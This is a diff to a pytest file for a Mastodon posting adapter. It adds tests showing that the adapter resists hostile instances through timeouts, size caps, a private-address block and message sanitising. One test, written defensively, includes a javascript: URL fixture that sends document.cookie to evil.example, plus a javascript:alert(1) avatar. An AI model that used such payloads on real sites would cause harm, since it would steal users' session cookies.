@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import time
 import uuid
 from collections.abc import Iterator
 from datetime import UTC, datetime
@@ -14,6 +15,7 @@ from authlib.integrations.httpx_client import OAuth2Client
 from postforge.models.social import Platform
 from postforge.platforms.base import (
     AccountCredentials,
+    AccountProfile,
     AuthExpired,
     ConnectFailed,
     Published,
@@ -27,6 +29,7 @@ from postforge.platforms.base import (
 from postforge.platforms.mastodon import SCOPES, MastodonAdapter, normalize_instance_url
 from postforge.platforms.registry import adapter_for
 from postforge.settings import load_settings
+from tests.fakes.hostile import MiB, endless, hostile_server, trickle
 from tests.fakes.mastodon_api import FakeMastodon
 from tests.fakes.server import serve
 
@@ -124,7 +127,7 @@ def test_register_app_creates_a_postforge_client_on_the_instance(mastodon, adapt
 def test_register_app_on_an_unreachable_instance_says_so(adapter) -> None:
     with serve(FakeMastodon().app) as base_url:
         pass  # the server is gone: its port refuses connections
-    with pytest.raises(ConnectFailed, match=r"Could not reach 127\.0\.0\.1"):
+    with pytest.raises(ConnectFailed, match=r"127\.0\.0\.1:\d+ does not answer as a Mastodon server"):
         adapter.register_app(base_url, REDIRECT_URI)
 
 
@@ -426,4 +429,88 @@ def test_the_fake_consent_page_approves_or_denies(mastodon, adapter) -> None:
     assert httpx.get(f"{base_url}/oauth/authorize", params=without_pkce).status_code == 400
     assert (
         httpx.get(f"{base_url}/oauth/authorize", params={**query, "scope": "admin:write"}).status_code == 400
+    )
+
+
+# --- the outbound policy: a hostile instance ---------------------------------------------------------
+
+STATUS = b'{"id": "109", "url": "https://mastodon.test/@alice/109", "content": "' + b"-" * 60 + b'"}'
+
+
+def _own_client_adapter(**settings) -> MastodonAdapter:
+    """The adapter as the worker builds it: no injected client, the policy's own."""
+    return MastodonAdapter(load_settings(app_url="https://postforge.test", **settings))
+
+
+def _account_at(instance_url: str) -> AccountCredentials:
+    return AccountCredentials(platform_account_id="1", access_token="t", instance_url=instance_url)
+
+
+def test_an_instance_trickling_its_answer_is_cut_off_at_the_deadline_as_unknown() -> None:
+    adapter = _own_client_adapter(platform_http_timeout_seconds=1)
+    with hostile_server(trickle(STATUS, interval=0.5)) as server:  # a minute for the whole answer
+        started = time.monotonic()
+        outcome = adapter.publish(request_for(_account_at(server.url)))
+        assert time.monotonic() - started < 15
+    assert isinstance(outcome, Unknown)  # the status may exist: the Idempotency-Key covers a retry
+
+
+def test_an_endless_answer_is_cut_off_at_the_size_cap(monkeypatch) -> None:
+    adapter = _own_client_adapter(outbound_max_response_bytes=64 * 1024)
+    with hostile_server(endless()) as server:
+        outcome = adapter.publish(request_for(_account_at(server.url)))
+        time.sleep(0.2)
+        assert server.bytes_sent < 20 * MiB
+    assert isinstance(outcome, Unknown)
+    assert "larger than 64 KiB" in outcome.error
+
+
+def test_in_production_an_instance_at_a_private_address_is_never_contacted() -> None:
+    adapter = _own_client_adapter(outbound_allow_private_hosts=False)
+    with hostile_server(trickle(STATUS)) as server:
+        instance = f"https://localhost:{server.port}"
+        outcome = adapter.publish(request_for(_account_at(instance)))
+        with pytest.raises(ConnectFailed, match="private or local network"):
+            adapter.register_app(instance, REDIRECT_URI)
+        assert server.connections == 0
+    assert isinstance(outcome, Rejected)
+    assert "private or local network" in outcome.reason
+
+
+def test_an_html_error_page_is_not_shown_to_the_user(mastodon, adapter) -> None:
+    fake, base_url = mastodon
+    page = "<html><head><title>502</title></head><body><h1>Bad Gateway</h1><script>x()</script></body></html>"
+    fake.faults.fail_next("statuses", status=502, body=page)
+    outcome = adapter.publish(request_for(account_for(fake, base_url)))
+    assert outcome == Transient("The platform answered 502.", http_status=502)
+
+
+def test_a_platform_message_is_shown_short_and_plain(mastodon, adapter) -> None:
+    fake, base_url = mastodon
+    shouting = "Validation failed:\u202e <b>Text</b>\x1b[31m is too long " + "!" * 1000
+    fake.faults.fail_next("statuses", status=422, body={"error": shouting})
+    outcome = adapter.publish(request_for(account_for(fake, base_url)))
+    assert isinstance(outcome, Rejected)
+    assert outcome.reason.startswith("Validation failed: Text [31m is too long")
+    assert len(outcome.reason) <= 200
+    assert not any(c in outcome.reason for c in "<>\u202e\x1b")
+
+
+def test_an_address_without_a_scheme_that_answers_nothing_is_not_a_mastodon_server(adapter) -> None:
+    with pytest.raises(ConnectFailed) as refused:
+        adapter.register_app("mastodon.example.invalid", REDIRECT_URI)
+    assert refused.value.message.startswith("mastodon.example.invalid does not answer as a Mastodon server")
+    assert "try again" not in refused.value.message.lower()
+
+
+def test_a_post_link_or_avatar_that_is_not_a_web_address_is_dropped(mastodon, adapter) -> None:
+    fake, base_url = mastodon
+    hostile = {"id": "110", "url": "javascript:fetch('//evil.example/'+document.cookie)", "uri": "data:x"}
+    fake.faults.fail_next("statuses", status=200, body=hostile)
+    assert adapter.publish(request_for(account_for(fake, base_url))) == Published("110", url="")
+
+    profile = AccountProfile("1", "@alice@mastodon.test", avatar_url="javascript:alert(1)")
+    assert profile.avatar_url == ""
+    assert AccountProfile("1", "@a", avatar_url="https://cdn.example/a.png").avatar_url == (
+        "https://cdn.example/a.png"
     )
